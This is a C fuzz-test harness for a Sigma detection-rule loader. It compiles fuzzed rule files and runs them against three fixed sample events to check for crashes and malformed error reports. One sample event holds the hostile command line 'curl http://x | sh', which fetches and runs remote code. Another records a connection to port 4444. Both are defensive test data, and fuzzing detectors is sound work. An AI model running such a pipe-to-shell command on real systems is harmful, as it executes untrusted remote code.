/* tests/fuzz/fuzz_sigma.c — rule authors (and rule bundles fetched over the network) choose
 * every byte of a Sigma file: load the input as one YAML stream, compile whatever loaded,
 * and run the result over a few fixed events (Sysmon process creation, a network
 * connection, an ECS event) so the compiled form is exercised too. Must never crash, hang
 * or leak; every problem must carry a reason and a message. */
#include "core/arena.h"
#include "core/event.h"
#include "core/json.h"
#include "detect/detect.h"

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#define INPUT_BYTES_MAX (64 * 1024)

static const char sysmon1[] =
    "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"ws1\"},"
    "\"EventData\":{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd /c whoami -all\","
    "\"ParentImage\":\"C:\\\\Windows\\\\explorer.exe\",\"User\":\"CORP\\\\bob\",\"ProcessId\":\"4242\"}}}";
static const char sysmon3[] =
    "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":3},"
    "\"EventData\":{\"Image\":\"C:\\\\a.exe\",\"DestinationIp\":\"10.1.2.3\",\"DestinationPort\":\"4444\","
    "\"Initiated\":\"true\"}}}";
static const char ecs_linux[] =
    "{\"event\":{\"category\":[\"process\"],\"type\":[\"start\"]},\"host\":{\"os\":{\"type\":\"linux\"}},"
    "\"process\":{\"executable\":\"/usr/bin/curl\",\"command_line\":\"curl http://x | sh\"},\"user\":{\"name\":\"root\"}}";
static const char *const events[] = {sysmon1, sysmon3, ecs_linux};

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    static json_parser *parser;
    static normalizer *norm;
    if (!parser) {
        parser = json_parser_create();
        norm = normalizer_create();
    }
    if (size > INPUT_BYTES_MAX) return 0;
    detect_options opt;
    detect_options_default(&opt);
    opt.compile_threads = 1;
    opt.rules_max = 64;
    opt.values_per_item_max = 512;
    const char *const values[] = {"srv*", "dc01"};
    detect_placeholder ph = {.name = "Servers", .values = values, .value_count = 2};
    opt.placeholders = &ph;
    opt.placeholder_count = 1;
    detect_loader *loader = detect_loader_create(&opt);
    detect_loader_add_text(loader, "fuzz.yml", (const char *)data, size);
    detect_ruleset *rs = NULL;
    char err[256];
    if (detect_loader_build(loader, &rs, err, sizeof err) == 0) {
        const detect_report *r = detect_loader_report(loader);
        for (size_t i = 0; i < r->problem_count; i++)
            if (!r->problems[i].message || !r->problems[i].message[0] || r->problems[i].reason >= DETECT_REASON_COUNT)
                abort();
        if (r->loaded != detect_ruleset_rule_count(rs)) abort();
        detect_worker *w = detect_worker_create();
        if (detect_worker_bind(w, rs) == 0) {
            arena a;
            arena_init(&a, 16 * 1024);
            event_stamp stamp = {.tenant = "fuzz", .agent_id = "a", .agent_hash = 1, .seq = 1,
                                 .received_us = 1714566896000000LL};
            for (size_t e = 0; e < sizeof events / sizeof events[0]; e++) {
                json_value v;
                json_error jerr;
                mamori_event ev;
                char why[128];
                if (json_parse(parser, &a, events[e], strlen(events[e]), &v, &jerr) != 0) abort();
                if (normalize_event(norm, &a, EVENT_FORMAT_AUTO, &v, &stamp, (uint32_t)e, &ev, why, sizeof why) != 0)
                    abort();
                const detect_match *m;
                size_t n = detect_eval(w, &ev, &m);
                for (size_t i = 0; i < n; i++)
                    if (!m[i].rule || m[i].rule->index >= detect_ruleset_rule_count(rs)) abort();
                arena_reset(&a);
            }
            arena_fini(&a);
        }
        detect_worker_destroy(w);
        detect_ruleset_unref(rs);
    }
    detect_loader_destroy(loader);
    return 0;
}
